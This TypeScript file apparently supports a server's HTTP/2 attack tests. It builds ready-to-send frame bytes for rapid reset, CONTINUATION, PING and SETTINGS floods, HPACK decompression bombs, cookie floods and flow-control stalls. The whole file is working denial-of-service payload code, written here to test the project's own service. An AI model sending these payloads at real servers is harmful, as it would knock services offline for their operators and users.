/**
 * What HTTP/2 clients that mean no good send, as bytes that are the same on each connection: literals alone, so that no
 * block hangs on the one before. RFC 9113, RFC 7541. The tests of the same attacks are in test/app/h2-attacks.test.ts.
 */
import { SERVICE_HOST } from './workload.ts';

/** Paths that the app of this case knows besides small answers: content that nobody takes, and no answer at all. */
export const LARGE_PATH = '/large';
export const HOLD_PATH = '/hold';

export const ATTACK_NAMES = [
  'rapid reset',
  'CONTINUATION flood',
  'PING flood',
  'SETTINGS flood',
  'HPACK bombs',
  'many cookies',
  'made to reset',
  'zero window',
  'never reads',
] as const;
export type AttackName = (typeof ATTACK_NAMES)[number];

export interface Attack {
  /** All that a connection sends behind its preface; connections take turns with them. */
  readonly variants: readonly Buffer[];
  readonly reads: boolean;
  /** Outrider ends each connection by itself. */
  readonly ends: boolean;
}

const TYPE = {
  data: 0,
  headers: 1,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const;
const END_STREAM = 0x1;
const ACK = 0x1;
const END_HEADERS = 0x4;
const WHOLE = END_STREAM | END_HEADERS;
const INITIAL_WINDOW = 4;
const MAX_FRAME = 16_384;
const LARGEST_WINDOW = 0x7fff_ffff;
const CANCEL = 8;

const STREAMS = 10_000;
const CONTROLS = 50_000;
const LARGE_BLOCKS = 500; // each as large as a frame may be
/** As many as are allowed at a time. */
const STALLED = 250;
/** RFC 7541 appendix A, as indexed fields. */
const GET = Buffer.of(0x82);
const POST = Buffer.of(0x83);
const SCHEME = Buffer.of(0x86);
const BOMB_BYTES = 3_900; // nearly the whole table
const FIRST_DYNAMIC = Buffer.of(0x80 | 62);
const EMPTY_COOKIE = Buffer.of(0x0f, 32 - 15, 0);

/** Preface, empty SETTINGS, and the acknowledgement of those that will come. */
export const OPENING = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  frame(TYPE.settings, 0, 0),
  frame(TYPE.settings, ACK, 0),
]);

/** Makes what an attack of this name sends. */
export function attackOf(name: AttackName): Attack {
  switch (name) {
    case 'rapid reset':
      return endless(streams(id => [request(id), frame(TYPE.reset, 0, id, uint32(CANCEL))]));
    case 'CONTINUATION flood':
      return endless(openBlock(4, CONTROLS), openBlock(0, CONTROLS), openBlock(MAX_FRAME, 100));
    case 'PING flood':
      return endless(repeat(frame(TYPE.ping, 0, 0, Buffer.alloc(8)), CONTROLS));
    case 'SETTINGS flood':
      return endless(
        repeat(frame(TYPE.settings, 0, 0), CONTROLS),
        repeat(Buffer.concat([initialWindow(0), initialWindow(1)]), CONTROLS / 2),
      );
    case 'HPACK bombs':
      return endless(bombs());
    case 'many cookies':
      return endless(cookies());
    case 'made to reset':
      return endless(
        streams(id => [request(id, HOLD_PATH), windowUpdate(id, 0)]),
        streams(id => [request(id, HOLD_PATH), windowUpdate(id, LARGEST_WINDOW)]),
        streams(id => [request(id, HOLD_PATH), frame(TYPE.data, 0, id, Buffer.of(0))]),
        streams(id => [malformed(id)]),
      );
    case 'zero window':
      return stall(true, [initialWindow(0)]);
    case 'never reads':
      return stall(false, [initialWindow(LARGEST_WINDOW), windowUpdate(0, 1 << 30)]);
  }
}

function endless(...variants: readonly Buffer[]): Attack {
  return { variants, reads: true, ends: true };
}

function stall(reads: boolean, opening: readonly Buffer[]): Attack {
  const bytes = Buffer.concat([...opening, streams(id => [request(id, LARGE_PATH)], STALLED)]);
  return { variants: [bytes], reads, ends: false };
}

function streams(one: (id: number) => Buffer[], count = STREAMS): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => Buffer.concat(one(2 * i + 1))));
}

function repeat(one: Buffer, count: number): Buffer {
  return Buffer.alloc(one.length * count, one);
}

/** A header block without an end. */
function openBlock(bytes: number, frames: number): Buffer {
  const more = repeat(frame(TYPE.continuation, 0, 1, Buffer.alloc(bytes, 'a')), frames);
  return Buffer.concat([frame(TYPE.headers, END_STREAM, 1), more]);
}

/** One large entry of the table, named ten thousand times in each block: 16 KB that decode to 43 MB. */
function bombs(): Buffer {
  const entry = Buffer.concat([Buffer.of(0x40), string('x-bomb'), string('a'.repeat(BOMB_BYTES))]);
  const head = fields(GET, '/');
  const first = Buffer.concat([head, entry, repeat(FIRST_DYNAMIC, 11_000)]);
  const next = Buffer.concat([head, repeat(FIRST_DYNAMIC, 11_000)]);
  return streams(id => [frame(TYPE.headers, WHOLE, id, id === 1 ? first : next)], LARGE_BLOCKS);
}

function cookies(): Buffer {
  const block = Buffer.concat([fields(GET, '/'), repeat(EMPTY_COOKIE, 5_000)]);
  return streams(id => [frame(TYPE.headers, WHOLE, id, block)], LARGE_BLOCKS);
}

function request(id: number, path = '/'): Buffer {
  return frame(TYPE.headers, WHOLE, id, fields(GET, path));
}

/** RFC 9113 8.2.2: no field of the connection. */
function malformed(id: number): Buffer {
  const field = Buffer.concat([Buffer.of(0), string('connection'), string('close')]);
  return frame(TYPE.headers, WHOLE, id, Buffer.concat([fields(POST, '/'), field]));
}

function fields(method: Buffer, path: string): Buffer {
  return Buffer.concat([
    method,
    SCHEME,
    Buffer.of(0x01),
    string(SERVICE_HOST),
    Buffer.of(0x04),
    string(path),
  ]);
}

/** RFC 7541 5.2, not coded; for less than 16 KB. */
function string(text: string): Buffer {
  const rest = text.length - 127;
  const length = rest < 0 ? [text.length] : rest < 128 ? [127, rest] : [127, 128 | (rest & 127), rest >> 7];
  return Buffer.concat([Buffer.from(length), Buffer.from(text, 'latin1')]);
}

function initialWindow(bytes: number): Buffer {
  return frame(TYPE.settings, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW), uint32(bytes)]));
}

function windowUpdate(id: number, more: number): Buffer {
  return frame(TYPE.windowUpdate, 0, id, uint32(more));
}

function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
